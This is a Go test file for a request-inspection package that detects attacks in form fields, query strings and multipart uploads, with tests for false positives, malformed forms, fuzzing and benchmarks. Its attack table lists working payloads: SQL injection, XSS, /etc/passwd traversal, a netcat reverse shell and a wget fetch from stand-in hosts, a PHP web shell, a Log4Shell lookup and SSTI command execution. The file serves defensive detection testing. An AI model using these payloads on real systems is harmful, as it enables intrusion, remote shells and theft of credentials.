package inspect

import (
	"bytes"
	"context"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"pgregory.net/rapid"

	"clause.dev/clause/internal/fault"
)

// inspector is made once: reading the rules takes a moment.
var inspector = sync.OnceValues(func() (*Inspector, error) { return New(2) })

func attack(t testing.TB, r *http.Request) (kind string, body string, err error) {
	t.Helper()
	i, err := inspector()
	if err != nil {
		t.Fatal(err)
	}
	look := func(fields []Field) error {
		if kind == "" {
			kind, err = i.Attack(t.Context(), r, fields)
		}
		return err
	}
	fields, again, err := Read(r, r.Body, look)
	if err == nil {
		err = look(fields)
	}
	if err != nil {
		return "", "", err
	}
	text, err := io.ReadAll(again)
	return kind, string(text), err
}

func form(values url.Values) *http.Request {
	r := httptest.NewRequest("POST", "/comments", strings.NewReader(values.Encode()))
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	return r
}

func withFile(t testing.TB, field, value string, file []byte) *http.Request {
	return upload(t, func(w *multipart.Writer) { w.WriteField(field, value) }, file, func(*multipart.Writer) {})
}

func afterFile(t testing.TB, field, value string, file []byte) *http.Request {
	return upload(t, func(*multipart.Writer) {}, file, func(w *multipart.Writer) { w.WriteField(field, value) })
}

// upload is a form with a file, and fields before and after it.
func upload(t testing.TB, before func(*multipart.Writer), file []byte, after func(*multipart.Writer)) *http.Request {
	t.Helper()
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	w.WriteField("title", "my_photo")
	before(w)
	part, err := w.CreateFormFile("photo", "photo.jpg")
	if err != nil {
		t.Fatal(err)
	}
	part.Write(file)
	after(w)
	w.Close()
	r := httptest.NewRequest("POST", "/photos", &b)
	r.Header.Set("Content-Type", w.FormDataContentType())
	return r
}

// attacks are of each kind that a form may hold, as tools write them.
var attacks = map[string][]string{
	"sqli": {"' OR '1'='1' -- ", "1 UNION SELECT username, password FROM users--", "1; DROP TABLE accounts;--", "1' AND SLEEP(5)#", "1 AND (SELECT 4523 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT 1),0x71,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)", "x' AND 1=CAST((SELECT version()) AS int)--"},
	"xss":  {"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "<svg/onload=fetch('//evil.example')>", "javascript:alert(document.cookie)", "<iframe src=javascript:alert(1)>"},
	"lfi":  {"../../../../etc/passwd", "..%2f..%2fetc/shadow", "/etc/passwd"},
	"rce":  {"; cat /etc/passwd", "$(wget http://evil.example/x.sh)", "| nc -e /bin/sh 203.0.113.9 4444", "() { :; }; /bin/bash -c 'id'"},
	"php":  {"<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index"},
	"java": {"${jndi:ldap://evil.example/a}"},
	"ssti": {"{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"},
}

// TestAttacksAreSeen in each place where a form sends something.
func TestAttacksAreSeen(t *testing.T) {
	for _, list := range attacks {
		for _, text := range list {
			query := httptest.NewRequest("GET", "/search?page=2&q="+url.QueryEscape(text), nil)
			for where, r := range map[string]*http.Request{
				"a form": form(url.Values{"name": {"Ana"}, "text": {text}}), "a query": query, "a form with a file": withFile(t, "text", text, []byte("x")),
				"the fields before a large file": withFile(t, "text", text, bytes.Repeat([]byte("x"), 3*MaxForm)),
				"the fields after one":           afterFile(t, "text", text, bytes.Repeat([]byte("x"), 3*MaxForm)),
			} {
				if kind, _, err := attack(t, r); kind == "" || err != nil {
					t.Errorf("in %s %q passes: %q, %v", where, text, kind, err)
				}
			}
		}
	}
	if kind, _, _ := attack(t, form(url.Values{"<script>alert(1)</script>": {"1"}})); kind == "" {
		t.Error("an attack in the name of a field passes")
	}
	if kind, _, _ := attack(t, form(url.Values{"name": {"Ana"}})); kind != "" {
		t.Errorf("a name is %q", kind)
	}
}

// ordinary is what people write.
var ordinary = []string{
	"Ana", "O'Brien", "ana@example.ae", "12.50", "-3", "2026-11-22", "https://example.com/a?b=c&d=e", "Rent & groceries", "1 + 1 = 2", "I'd like to select a new plan, and drop the old one.",
	"My budget is 5,000 AED; can you update it where I pay rent?", "مرحبا، أريد تحديث ميزانيتي من فضلك", "J'ai réglé l'échéance d'octobre (12 %)", "Grüße aus Köln – bis morgen!",
	"It's 50% off; isn't it great? <3", "Line one\nLine two\n\n- a list\n- of things", "#goal: save $500 by June", "100 000,00 €", "+971 50 123 4567", "\"Quoted,\" she said.", "a/b/c", "50/50", "C:\\Users\\ana\\Documents", "Flat 3, 12/14 Al Wasl Rd.",
	"Our union chose a speaker from the floor", "and or not", "What's the order by which payments are made?", "see you @ 5pm", "x > 3 and y < 4", strings.Repeat("An ordinary sentence, of an ordinary letter. ", 100),
}

// TestOrdinaryWordsPass: an apostrophe is no attack.
func TestOrdinaryWordsPass(t *testing.T) {
	for _, text := range ordinary {
		for where, r := range map[string]*http.Request{
			"a form": form(url.Values{"text": {text}, "name": {"Ana"}}), "a query": httptest.NewRequest("GET", "/search?q="+url.QueryEscape(text), nil), "a form with a file": withFile(t, "text", text, []byte("GIF89a")),
		} {
			if kind, _, err := attack(t, r); kind != "" || err != nil {
				t.Errorf("in %s %.80q is taken for %q, %v", where, text, kind, err)
			}
		}
	}
	// A password is whatever somebody chose.
	if kind, _, err := attack(t, form(url.Values{"new-password": {"' OR 1=1 -- <script>"}})); kind != "" || err != nil {
		t.Errorf("a password is taken for %q, %v", kind, err)
	}
}

// TestWhatIsNoForm is not looked at, whatever it holds: JSON least of all.
func TestWhatIsNoForm(t *testing.T) {
	for _, kind := range []string{"application/json", "application/json; charset=utf-8", "application/octet-stream", "text/csv", "application/problem+json", ""} {
		r := httptest.NewRequest("POST", "/api", strings.NewReader(`{"q": "<script>alert(1)</script>' OR 1=1--"}`))
		r.Header.Set("Content-Type", kind)
		if got, _, err := attack(t, r); got != "" || err != nil {
			t.Errorf("%q is looked into: %q, %v", kind, got, err)
		}
	}
}

// TestFormsThatAreReadTwoWays are refused, and so are those that nobody writes.
func TestFormsThatAreReadTwoWays(t *testing.T) {
	for _, row := range []struct {
		name, kind, encoding, body string
		want                       fault.Kind
	}{
		{"another alphabet", "application/x-www-form-urlencoded; charset=ibm037", "", "a=1", fault.Invalid},
		{"compressed", "application/x-www-form-urlencoded", "gzip", "a=1", fault.Invalid},
		{"parameters that are broken", "application/x-www-form-urlencoded; charset", "", "a=1", fault.Invalid},
		{"a boundary that is missing", "multipart/form-data", "", "a=1", fault.Invalid},
		{"a part that is encoded", "multipart/form-data; boundary=b", "", "--b\r\nContent-Disposition: form-data; name=a\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD4=\r\n--b--\r\n", fault.Invalid},
		{"a part in another alphabet", "multipart/form-data; boundary=b", "", "--b\r\nContent-Disposition: form-data; name=a\r\nContent-Type: text/plain; charset=utf-7\r\n\r\n+ADw-script\r\n--b--\r\n", fault.Invalid},
		{"a part that is a file to some", "multipart/form-data; boundary=b", "", "--b\r\nContent-Disposition: form-data; name=a; filename*=utf-8''x\r\n\r\n<script>\r\n--b--\r\n", fault.Invalid},
		{"a part of two names", "multipart/form-data; boundary=b", "", "--b\r\nContent-Disposition: form-data; name=a\r\nContent-Disposition: form-data; name=b; filename=x\r\n\r\n<script>\r\n--b--\r\n", fault.Invalid},
		{"a part of no name", "multipart/form-data; boundary=b", "", "--b\r\n\r\n<script>\r\n--b--\r\n", fault.Invalid},
		{"an end that is missing", "multipart/form-data; boundary=b", "", "--b\r\nContent-Disposition: form-data; name=a\r\n\r\n1", fault.Invalid},
		{"large", "application/x-www-form-urlencoded", "", "a=" + strings.Repeat("x", MaxForm), fault.TooLarge},
		{"many fields", "application/x-www-form-urlencoded", "", strings.Repeat("a=1&", maxFields+1), fault.TooLarge},
	} {
		r := httptest.NewRequest("POST", "/", strings.NewReader(row.body))
		r.Header.Set("Content-Type", row.kind)
		if row.encoding != "" {
			r.Header.Set("Content-Encoding", row.encoding)
		}
		if _, _, err := attack(t, r); !fault.Is(err, row.want) {
			t.Errorf("%s: %v", row.name, err)
		}
	}
	for _, types := range [][]string{{"application/json", "application/x-www-form-urlencoded"}, {"text/plain", "multipart/form-data; boundary=b"}} {
		r := httptest.NewRequest("POST", "/", strings.NewReader("a=<script>alert(1)</script>"))
		r.Header["Content-Type"] = types
		if _, _, err := attack(t, r); !fault.Is(err, fault.Invalid) {
			t.Errorf("%q: %v", types, err)
		}
	}
}

// TestAttacksAreSeenInOddPlaces: where some applications look for a field, or for a file's name, and others do not.
func TestAttacksAreSeenInOddPlaces(t *testing.T) {
	const sql = "' UNION SELECT password FROM users -- "
	file := func(disposition string) *http.Request {
		r := httptest.NewRequest("POST", "/", strings.NewReader("--b\r\nContent-Disposition: form-data; "+disposition+"\r\n\r\nx\r\n--b--\r\n"))
		r.Header.Set("Content-Type", "multipart/form-data; boundary=b")
		return r
	}
	body := httptest.NewRequest("POST", "/", strings.NewReader("password=x;q="+sql))
	body.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for name, r := range map[string]*http.Request{
		"after a semicolon": body, "after a semicolon of a query": httptest.NewRequest("GET", "/?password=x;q="+url.PathEscape(sql), nil),
		"around a semicolon":           httptest.NewRequest("GET", "/?q="+url.PathEscape("x' UNION SELECT a")+";"+url.PathEscape(" DROP TABLE accounts -- "), nil),
		"the folders of a file's name": file(`name=photo; filename="../../../../etc/passwd"`), "a file's name": file(`name=photo; filename="` + sql + `"`),
		"the name of a file of secrets": file(`name=password; filename="` + sql + `"`), "what a file is called": file(`name="` + sql + `"; filename=a.jpg`),
	} {
		if kind, _, err := attack(t, r); kind == "" || err != nil {
			t.Errorf("%s an attack passes: %q, %v", name, kind, err)
		}
	}
}

// passAll looks at nothing.
func passAll([]Field) error { return nil }

// TestBodiesArePassedOnAsTheyCame, byte for byte, whatever they hold. What is no form with files but is said to be,
// ends where that shows.
func TestBodiesArePassedOnAsTheyCame(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		body := rapid.SliceOfN(rapid.Byte(), 0, 300).Draw(t, "body")
		if rapid.Bool().Draw(t, "large") {
			body = append(body, bytes.Repeat([]byte("y"), 2*MaxForm)...)
		}
		kind := rapid.SampledFrom([]string{"application/x-www-form-urlencoded", "multipart/form-data; boundary=b", "application/json", "text/plain"}).Draw(t, "kind")
		isParts := strings.HasPrefix(kind, "multipart")
		if isParts && rapid.Bool().Draw(t, "with parts") {
			body = append([]byte("--b\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--b\r\n"), body...)
		}
		r := httptest.NewRequest("POST", "/", bytes.NewReader(body))
		r.Header.Set("Content-Type", kind)
		_, again, err := Read(r, r.Body, passAll)
		if err != nil {
			return
		}
		got, err := io.ReadAll(again)
		if isParts && fault.Is(err, fault.Invalid) && bytes.HasPrefix(body, got) {
			return
		}
		if err != nil || !bytes.Equal(got, body) {
			t.Fatalf("of %d bytes %d are passed on, %v", len(body), len(got), err)
		}
	})
}

// TestPlainIsNoAttack: what is not put before the rules, they would let pass.
func TestPlainIsNoAttack(t *testing.T) {
	i, err := inspector()
	if err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{"0--", "1--", "@@version", "..", "x' "} { // beginnings of attacks
		if plain(text) {
			t.Errorf("%q is taken for a word", text)
		}
	}
	for _, text := range []string{"Ana", "ana_b@example.ae", "12.50", "-3", "+971501234567", "أحمد", "2026-11-22", ""} {
		if !plain(text) {
			t.Errorf("%q is taken for more than a word", text)
		}
	}
	for _, list := range attacks {
		for _, text := range list {
			if plain(text) {
				t.Errorf("%q is taken for a word", text)
			}
		}
	}
	word := rapid.StringMatching(`[a-zA-Z0-9_.@+,-]{1,12}`).Filter(plain)
	rapid.Check(t, func(t *rapid.T) {
		text := word.Draw(t, "word")
		if kind, err := i.look(httptest.NewRequest("POST", "/", nil), []Field{{Name: "a", Value: text}}); kind != "" && kind != "rce" || err != nil { // "sh," is the name of a command
			t.Fatalf("the rules take %q for %q, %v", text, kind, err)
		}
	})
}

// TestAFloodOfFormsWaits, and takes no more of the machine than its turns.
func TestAFloodOfFormsWaits(t *testing.T) {
	i := &Inspector{turns: make(chan struct{}, 1)}
	i.turns <- struct{}{}
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Millisecond)
	defer cancel()
	_, err := i.Attack(ctx, httptest.NewRequest("POST", "/", nil), []Field{{Name: "a", Value: "<b>"}})
	if !fault.Is(err, fault.Unavailable) {
		t.Errorf("a form that waits: %v", err)
	}
	if kind, err := i.Attack(ctx, httptest.NewRequest("POST", "/", nil), []Field{{Name: "a", Value: "b"}}); kind != "" || err != nil {
		t.Errorf("a form of words waits: %q, %v", kind, err)
	}
}

func FuzzRead(f *testing.F) {
	f.Add("application/x-www-form-urlencoded", "a=1&b=%zz&c", "q=%")
	f.Add("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--b--\r\n", "")
	f.Fuzz(func(t *testing.T, kind, body, query string) {
		r := httptest.NewRequest("POST", "/", strings.NewReader(body))
		r.URL.RawQuery = query
		r.Header["Content-Type"] = []string{kind}
		fields, again, err := Read(r, r.Body, passAll)
		if err != nil {
			return
		}
		if got, err := io.ReadAll(again); err == nil && string(got) != body || !strings.HasPrefix(body, string(got)) || len(fields) > maxFields {
			t.Errorf("%d fields, %q of %q", len(fields), got, body)
		}
	})
}

func BenchmarkLook(b *testing.B) {
	i, err := inspector()
	if err != nil {
		b.Fatal(err)
	}
	for name, r := range map[string]*http.Request{
		"words": form(url.Values{"name": {"Ana"}, "amount": {"12.50"}}), "a sentence": form(url.Values{"text": {ordinary[9]}, "name": {"Ana"}}),
		"4 kB": form(url.Values{"text": {strings.Repeat("An ordinary sentence. ", 190)}}), "60 kB": form(url.Values{"text": {strings.Repeat("An ordinary sentence. ", 2700)}}),
		"200 fields": form(many(200)),
	} {
		b.Run(name, func(b *testing.B) {
			body, _ := io.ReadAll(r.Body)
			for b.Loop() {
				fields, _, err := Read(r, io.NopCloser(bytes.NewReader(body)), passAll)
				if err != nil {
					b.Fatal(err)
				}
				if _, err := i.Attack(b.Context(), r, fields); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

func many(n int) url.Values {
	all := url.Values{}
	for i := range n {
		all.Set("field"+strings.Repeat("x", i), "it's a word")
	}
	return all
}
